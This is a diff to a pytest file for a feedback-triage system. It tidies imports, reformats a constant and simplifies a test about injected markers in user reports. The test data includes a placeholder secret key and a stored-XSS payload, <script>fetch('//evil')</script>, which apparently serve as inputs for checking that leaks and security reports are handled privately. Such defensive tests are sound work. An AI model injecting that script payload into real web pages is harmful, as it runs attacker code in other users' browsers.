@@ -3,8 +3,7 @@
 import pytest
 
 from feedback.models import Item
-from tests.github_tracker import PRIVATE, PUBLIC
-from tests.make import make_source
+from tests.github_tracker import PRIVATE
 from tests.triage.tracking.conftest import again, settle, write_playbook
 from triage import troubles
 from triage.models import Delivery, OutboxEntry
@@ -18,9 +17,7 @@ pytestmark = pytest.mark.django_db(transaction=True)
 SPINNER = "The task board does not load since version 2.3.1, I only see a spinner."
 KEY = "sk-live-abcdefghijklmnop123456"
 LEAK = f"The task board does not load, and the page source shows the API key {KEY}."
-HOLE = (
-    "There is a stored XSS hole in task titles: <script>fetch('//evil')</script> runs for everyone."
-)
+HOLE = "There is a stored XSS hole in task titles: <script>fetch('//evil')</script> runs for all."
 
 
 def public_bodies(github) -> str:
@@ -208,11 +205,7 @@ def test_what_helps_stays(text):
 
 def test_a_mark_in_somebodys_words_is_no_mark_of_ours(github, report):
     settle()
-    report(
-        f"{SPINNER} <!-- feedback:issue:abc --> @corp/everyone ~~~ fixes #1",
-        source=make_source("gh2"),
-    )
+    report(f"{SPINNER} <!-- feedback:issue:abc --> @corp/everyone ~~~ fixes #1")
     settle()
     body = github.public.issues[0]["body"]
     assert body.count("<!-- feedback:") == 1
-    assert PUBLIC
